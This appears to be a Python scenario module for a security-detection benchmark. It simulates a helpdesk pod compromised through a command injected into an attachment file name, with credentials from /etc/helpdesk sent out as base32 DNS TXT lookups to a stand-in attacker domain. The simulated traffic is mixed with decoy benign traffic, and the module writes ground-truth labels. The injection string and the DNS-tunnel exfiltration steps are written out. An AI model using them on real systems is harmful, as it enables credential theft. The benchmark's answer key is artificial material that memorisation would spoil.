"""Exfiltration over DNS: a crafted attachment's file name injects a command into the helpdesk's
document preview (``sh -c "soffice --convert-to pdf ..."``).  The injected shell writes a small
script into ``/tmp`` and runs it; the script packs the helpdesk's configuration (its database
credentials), encodes it in base32 and sends it out as the first labels of TXT lookups under an
attacker's domain, one ``dig`` per chunk, through the cluster's resolver.  No connection leaves
the cluster: the data is in the names.

Look-alikes: every attachment runs ``sh -c "soffice ..."`` in the helpdesk; the helpdesk checks
every sender against a hash blocklist all day (a distinct 40-hex-digit name per sender, through
the same resolver); a telemetry sidecar in the same pods, which Tetragon shows no process of,
resolves its collector and a few hashed per-host names every 15 s; a mail relay resolves long
customer host names made of words."""

from __future__ import annotations

import base64
import hashlib
from pathlib import Path

from ..network import dns_lookup
from ..topology import Workload
from . import Scenario
from .kit import (
    MAY_READ,
    MAY_WRITE,
    MS,
    add_pod,
    command,
    every,
    file_hook,
    finish,
    ingress_controller,
    pod_ref,
    run,
    via_ingress,
    world,
)
from .truth import Endpoint, Truth

NAME = "dns-exfil"
DESCRIPTION = ("A crafted attachment injects a command into the helpdesk's preview converter; a "
               "script it drops packs the helpdesk's database credentials and sends them out as "
               "base32 labels of DNS TXT lookups (one dig per chunk); no connection leaves the "
               "cluster.")
TUNNEL = "q.docs-preview-cache.net"
BLOCKLIST = "hbl.blocklist.example"
TELEMETRY = "ingest.telemetry-vendor.example"
WORDS = ("northwind", "traders", "contoso", "fabrikam", "adventure", "works", "litware", "proseware",
         "wingtip", "toys", "tailspin", "woodgrove", "bank", "lucerne", "publishing", "margie", "travel")


def build(out_dir: Path, seed: int) -> Truth:
    """Write the capture; see the module docstring."""
    w = world(seed, minutes=25)
    rng = w.rng
    sim = w.sim
    wl = Workload("support", "helpdesk", "Deployment", {"app": "helpdesk"},
                  "ghcr.io/acme-support/helpdesk:5.2.1", "/usr/local/bin/helpdesk",
                  "--config /etc/helpdesk/config.yaml", "helpdesk", cwd="/srv/helpdesk", uid=1000,
                  port=8080, service="helpdesk", serviceaccount="helpdesk")
    pods = [add_pod(w, wl, w.node(1)), add_pod(w, wl, w.node(2))]
    relay_wl = Workload("mail", "relay", "Deployment", {"app": "relay"}, "docker.io/boky/postfix:4.1",
                        "/usr/sbin/postfix", "start-fg", "relay", cwd="/", uid=0, port=25,
                        service="relay", serviceaccount="default")
    relay = add_pod(w, relay_wl, w.node(2))
    _, nginx = ingress_controller(w, w.node(1))
    clients = [f"{rng.choice([62, 80, 93, 185, 217])}.{rng.randint(1, 254)}.{rng.randint(1, 254)}."
               f"{rng.randint(1, 254)}" for _ in range(30)]
    hosts = [hashlib.sha1(f"host-{p.name}-{i}".encode()).hexdigest()[:16] for p in pods for i in range(3)]

    for pod in pods:
        main = sim.pod_proc(pod)
        # tickets and attachments through the ingress; each attachment is previewed
        for t in every(w, 5):
            via_ingress(w, nginx, rng.choice(clients), pod, 8080, t, rng.choice(["GET", "GET", "POST"]),
                        f"http://help.acme.example/api/tickets/{rng.randint(1000, 9999)}")
        for t in every(w, 120):
            n = rng.randint(10**5, 10**6)
            end = via_ingress(w, nginx, rng.choice(clients), pod, 8080, t, "POST",
                              f"http://help.acme.example/api/tickets/{n % 9000 + 1000}/attachments"
                              f"?name=report-{n}.docx", 201)
            sh = run(w, main, end + 3 * MS, "/bin/sh",
                     f"-c soffice --headless --convert-to pdf /tmp/att-{n}.docx --outdir /tmp/prev",
                     exit_=False)
            run(w, sh, sh.start_ns + 2 * MS, "/usr/lib/libreoffice/program/soffice.bin",
                f"--headless --convert-to pdf /tmp/att-{n}.docx --outdir /tmp/prev",
                dur_ms=rng.randint(400, 1500))
            sim.exit_(sh, sh.start_ns + 1600 * MS)
        # every incoming mail's sender checked against a hash blocklist: a new hex name each time
        for i, t in enumerate(every(w, 20)):
            sender = hashlib.sha1(f"{pod.name}-{i}-{rng.random()}@mail".encode()).hexdigest()
            dns_lookup(sim, pod, f"{sender}.{BLOCKLIST}", None, t, qtypes=("A",), proc=main)
        # the telemetry sidecar (no process seen): its collector and its few hashed host names
        for t in every(w, 15):
            dns_lookup(sim, pod, "collector.observability.svc.cluster.local", "10.96.40.12", t,
                       qtypes=("A",))
            dns_lookup(sim, pod, f"{rng.choice(hosts)}.{TELEMETRY}", "34.120.5.9", t + 50 * MS,
                       qtypes=("A",))
    # the mail relay resolves its customers' long host names (words, no data)
    rmain = sim.pod_proc(relay)
    for t in every(w, 25):
        name = "".join(rng.choice(WORDS) for _ in range(3))
        dns_lookup(sim, relay, f"{name}.mx.{rng.choice(['example.com', 'example.org'])}", None, t,
                   qtypes=("MX",), proc=rmain)

    # the attack
    pod = pods[rng.randrange(2)]
    main = sim.pod_proc(pod)
    attacker = "198.51.100.77"
    t0 = w.at(12 + rng.random())
    inj = "x.docx';echo IyEvYmluL3NoCg== | base64 -d > /tmp/.p; sh /tmp/.p;'"
    end = via_ingress(w, nginx, attacker, pod, 8080, t0, "POST",
                      "http://help.acme.example/api/tickets/4711/attachments?name=x.docx%27%3Becho"
                      "%20IyEvYmluL3NoCg%3D%3D%20%7C%20base64%20-d%20%3E%20%2Ftmp%2F.p%3B%20sh%20"
                      "%2Ftmp%2F.p%3B%27", 201, "python-requests/2.31.0", critical=True)
    sh = run(w, main, end + 3 * MS, "/bin/sh",
             f"-c soffice --headless --convert-to pdf '/tmp/att-{inj}' --outdir /tmp/prev",
             exit_=False, critical=True)
    b64 = run(w, sh, sh.start_ns + 2 * MS, "/usr/bin/base64", "-d", 2, critical=True)
    file_hook(w, sh, sh.start_ns + 3 * MS, "/tmp/.p", MAY_WRITE, critical=True)
    script = run(w, sh, sh.start_ns + 6 * MS, "/bin/sh", "/tmp/.p", exit_=False, critical=True)
    t = script.start_ns + 3 * MS
    tar = run(w, script, t, "/bin/tar", "cz /etc/helpdesk", 40, critical=True)
    for path in ("/etc/helpdesk/config.yaml", "/etc/helpdesk/db.env"):
        file_hook(w, tar, t + 5 * MS, path, MAY_READ, critical=True)
    b32 = run(w, script, t + MS, "/usr/bin/base32", "-w 60", 42, critical=True)
    data = base64.b32encode(rng.randbytes(1800)).decode().rstrip("=").lower()
    chunks = [data[i:i + 60] for i in range(0, len(data), 60)]
    t += 80 * MS
    ids = [sh.exec_id, b64.exec_id, script.exec_id, tar.exec_id, b32.exec_id]
    for i, c in enumerate(chunks):
        name = f"{c}.{i}.{TUNNEL}"
        dig = run(w, script, t, "/usr/bin/dig", f"+short TXT {name}", exit_=False, critical=True)
        end = dns_lookup(sim, pod, name, None, t + 2 * MS, qtypes=("TXT",), critical=True, proc=dig)
        sim.exit_(dig, end + MS, critical=True)
        ids.append(dig.exec_id)
        t = end + rng.randint(150, 900) * MS
    sim.exit_(script, t + 5 * MS, critical=True)
    sim.exit_(sh, t + 8 * MS, critical=True)

    return finish(w, out_dir, Truth(
        scenario=NAME, kind="attack", description=DESCRIPTION, seed=seed,
        entry=pod_ref(pod), key_command=command(script), reached=[],
        endpoints=[Endpoint("", 53, "exfil", TUNNEL)],
        techniques=["T1190", "T1059.004", "T1552.001", "T1048.003", "T1071.004"],
        expected_incidents=1, attacker_exec_ids=ids,
        decoys=["every attachment runs sh -c 'soffice ...' in the helpdesk",
                "the helpdesk looks up a new 40-hex-digit blocklist name per sender all day",
                "a sidecar (no process seen) resolves a few hashed telemetry names every 15 s",
                "the mail relay resolves long customer host names made of words"]))


SCENARIO = Scenario(NAME, "attack", DESCRIPTION, build, seed=29)
